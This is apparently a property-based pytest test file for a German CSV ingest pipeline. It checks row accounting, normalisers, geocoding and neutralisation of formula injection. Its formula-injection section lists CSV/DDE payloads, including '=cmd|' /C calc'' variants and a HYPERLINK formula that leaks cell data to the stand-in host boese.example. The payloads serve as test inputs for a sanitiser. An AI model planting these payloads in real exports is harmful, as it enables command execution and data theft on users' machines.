"""Whatever people and machines feed in: no crash beyond a clear error, no row lost.

Property-based (hypothesis): arbitrary bytes, encodings, delimiters, quotes, line
breaks inside values, huge fields; every row comes back as accepted or rejected with
its line number. Formula injection is neutralised in every CSV we write.
"""
from __future__ import annotations

import csv
import io
import re
import string

import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st

from ingest.csv_safe import FORMULA_STARTS, csv_text, safe_cell
from ingest.readers import Row, UnusableFile, read_rows
from ingest.schema import (RecordError, clean_text, derive_id, parse_kind, parse_listed, parse_postcode,
                           slugify, validate_record)
from tests.both_deployments import small_radar  # noqa: F401  (the store's tests on both deployments)

FUZZ = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
COLUMNS = ["id", "name", "kind", "description", "postcode", "town", "contact_email", "listed"]

# Text as spreadsheets and people produce it: umlauts, quotes, delimiters, line breaks.
cell_text = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
                    max_size=60)
german_text = st.text(alphabet=string.ascii_letters + string.digits + " äöüÄÖÜß;,\t\"'\n=+-@#.", max_size=60)


def _write(tmp_path, data: bytes, suffix: str):
    path = tmp_path / f"eingabe{suffix}"
    path.write_bytes(data)
    return path


def _account(rows: list[Row]) -> None:
    """Every row is either a record or an error, with a line number that only grows."""
    last = 0
    for row in rows:
        assert (row.record is None) != (row.error is None), row
        assert row.line > last, (row.line, last)
        last = row.line
        if row.record is not None:
            try:
                validate_record(row.record)
            except RecordError as exc:
                assert str(exc)          # a reason a person can read


@FUZZ
@given(data=st.binary(max_size=3000), suffix=st.sampled_from([".csv", ".jsonl", ".txt", ""]))
@example(data=b"name;kind\n\"offen;kmu\n", suffix=".csv")
@example(data=b"\xef\xbb\xbfname,kind\n" + b"\xff\xfe" * 10, suffix=".csv")
@example(data=b'{"name": "x"}\n[1, 2]\n{"name": \n', suffix=".jsonl")
@example(data=b"name\n=HYPERLINK(\"http://x\")\n", suffix=".csv")
def test_arbitrary_bytes_give_rows_or_a_clear_error(tmp_path_factory, data, suffix):
    path = _write(tmp_path_factory.mktemp("bytes"), data, suffix)
    try:
        rows = list(read_rows(path))
    except UnusableFile as exc:
        assert str(exc)
        return
    _account(rows)


records = st.lists(st.fixed_dictionaries({c: cell_text for c in COLUMNS}), min_size=1, max_size=12)


@FUZZ
@given(rows=records, delimiter=st.sampled_from([",", ";", "\t"]),
       encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1252"]),
       quoting=st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]))
def test_every_written_row_comes_back_with_its_line(tmp_path_factory, rows, delimiter, encoding, quoting):
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=delimiter, quoting=quoting, lineterminator="\r\n")
    writer.writerow(COLUMNS)
    lines, line = [], 2
    for row in rows:
        values = [row[c] for c in COLUMNS]
        writer.writerow(values)
        lines.append(line)
        # line numbers count '\n' like grep -n and sed -n do (a lone '\r' inside a value is no line)
        line += sum(v.count("\n") for v in values) + 1
    text = out.getvalue()
    try:
        data = text.encode(encoding)
    except UnicodeEncodeError:
        assume(False)
    if encoding == "cp1252":
        try:
            data.decode("utf-8")
            assume(False)            # also valid UTF-8: read as UTF-8, which is right for most files
        except UnicodeDecodeError:
            pass
    path = _write(tmp_path_factory.mktemp("roundtrip"), data, ".csv")

    read = list(read_rows(path))

    expected = [(ln, r) for ln, r in zip(lines, rows) if any(v.strip() for v in r.values())]
    assert [(row.line, row.record) for row in read] == expected
    _account(read)


def test_a_huge_field_is_one_rejected_row_and_the_rest_go_in(tmp_path):
    huge = "Laser " * 60000                                   # 360,000 characters in one cell
    text = ("name;kind;description\n"
            "Erste GmbH;kmu;Wir schweißen Aluminium.\n"
            f"Riesig GmbH;kmu;{huge}\n"
            "Dritte GmbH;kmu;Wir fräsen Stahl.\n")
    rows = list(read_rows(_write(tmp_path, text.encode(), ".csv")))
    assert [r.line for r in rows] == [2, 3, 4]
    assert [r.record["name"] for r in (rows[0], rows[2])] == ["Erste GmbH", "Dritte GmbH"]
    big = rows[1]
    reason = big.error if big.error else pytest.raises(RecordError, validate_record, big.record).value.args[0]
    assert "zu lang" in reason


@FUZZ
@given(value=st.one_of(st.none(), cell_text, st.integers(), st.floats(allow_nan=True)))
def test_normalisers_return_clean_values_or_record_error(value):
    text = clean_text(value)
    assert text == text.strip() and "\x00" not in text and not re.search(r"\s\s", text)
    for parse in (parse_kind, parse_postcode, parse_listed):
        try:
            parsed = parse(value)
        except RecordError as exc:
            assert str(exc)
            continue
        if parse is parse_postcode:
            assert parsed == "" or re.fullmatch(r"\d{5}", parsed)
    slug = slugify(text)
    assert re.fullmatch(r"[a-z0-9-]*", slug)
    profile_id = derive_id(text)
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._:-]{0,127}", profile_id)


@FUZZ
@given(record=st.dictionaries(st.sampled_from(COLUMNS + ["offers", "seeks", "extra"]),
                              st.one_of(cell_text, st.none(), st.integers(), st.lists(cell_text, max_size=2),
                                        st.dictionaries(cell_text, cell_text, max_size=2))))
def test_validate_record_accepts_or_says_why(record):
    try:
        profile = validate_record(record)
    except RecordError as exc:
        assert str(exc)
        return
    assert profile.name and profile.kind in ("kmu", "research", "startup", "other")


@FUZZ
@given(postcode=cell_text, town=cell_text)
def test_geocoding_arbitrary_places_never_crashes(postcode, town):
    from geo import Gazetteer, normalise_district
    place = Gazetteer().resolve(postcode=postcode, town=town)
    assert place is None or place.landkreis
    district = normalise_district(town)
    assert district is None or isinstance(district, str)


@FUZZ
@given(value=cell_text)
def test_repair_functions_never_crash(value):
    from ingest.repair import clean_place, parse_amount, repair_name, repair_text
    for fn in (repair_name, repair_text, clean_place):
        assert isinstance(fn(value), str)
    try:
        amount = parse_amount(value)
    except ValueError as exc:          # documented: unparseable amounts say so
        assert "unparseable amount" in str(exc)
        return
    assert amount is None or isinstance(amount, float)


@FUZZ
@given(data=st.binary(max_size=2000), fmt=st.sampled_from(["efre", "ptdesy"]))
@example(data="Förderkennzeichen\tThema\n1;2;3\n".encode("cp1252"), fmt="ptdesy")
def test_funding_exports_with_garbage_give_a_clear_error(tmp_path_factory, data, fmt):
    from ingest import funding
    path = _write(tmp_path_factory.mktemp("funding"), data, ".tsv" if fmt == "ptdesy" else ".csv")
    loader = funding.load_efre if fmt == "efre" else funding.load_ptdesy
    try:
        dataset = loader(path)
    except (UnusableFile, ValueError) as exc:
        assert str(exc)
        return
    assert dataset is not None


# -- formula injection -----------------------------------------------------------------

ATTACKS = ['=HYPERLINK("http://boese.example/?x="&A1;"Hier klicken")', "=cmd|' /C calc'!A0",
           "+49 351 1234", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", " =1+1", "＝HYPERLINK(\"x\")"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_cells_are_neutralised(attack):
    cell = safe_cell(attack)
    assert cell == "'" + attack
    assert not cell.lstrip(" \u00a0").startswith(FORMULA_STARTS)


@FUZZ
@given(value=st.one_of(cell_text, st.integers(), st.floats(allow_nan=False), st.booleans(), st.none()))
def test_safe_cell_never_starts_a_formula_and_keeps_the_text(value):
    cell = safe_cell(value)
    if isinstance(value, str):
        assert cell in (value, "'" + value)
        assert not cell.lstrip(" \u00a0").startswith(FORMULA_STARTS)
    # a CSV of such cells reads back to the same cells
    text = csv_text(["a"], [[value]])
    assert list(csv.reader(io.StringIO(text), delimiter=";"))[1:] in ([[cell]], [])


def test_rejected_rows_file_neutralises_formulas(small_radar, tmp_path):
    path = tmp_path / "boese.csv"
    path.write_text('name;kind;description\n=HYPERLINK("http://boese.example";"x");Bäckerei;Text\n'
                    "@SUM(A1);kmu;\n", encoding="utf-8")
    report = small_radar.ingest(path)
    assert len(report.rejected) == 2
    with open(report.rejects_file, encoding="utf-8", newline="") as handle:
        cells = [c for row in csv.reader(handle) for c in row]
    assert not any(c.lstrip().startswith(("=", "+", "-", "@")) for c in cells)
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    # the database keeps the raw row unchanged: nothing is lost
    raws = [r["raw"] for r in small_radar.store.rejects()]
    assert any(r.startswith("=HYPERLINK") for r in raws)
